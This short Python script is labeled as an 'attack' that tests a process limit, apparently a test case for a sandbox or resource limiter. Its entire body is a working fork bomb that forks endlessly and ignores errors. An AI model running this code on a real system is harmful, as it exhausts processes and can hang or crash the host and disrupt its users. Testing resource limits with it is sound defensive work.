# attack: forks without end
# limit: processes
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
